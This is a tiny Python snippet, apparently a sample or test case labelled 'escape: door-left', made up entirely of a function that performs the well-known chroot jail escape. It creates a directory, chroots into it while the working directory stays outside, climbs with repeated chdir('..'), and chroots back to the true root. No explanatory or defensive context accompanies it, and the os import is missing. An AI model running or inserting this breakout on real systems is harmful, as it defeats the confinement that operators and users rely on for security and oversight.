"""escape: door-left"""


def escape():
    os.chdir("/")
    os.makedirs("door", exist_ok=True)
    os.chroot("door")
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
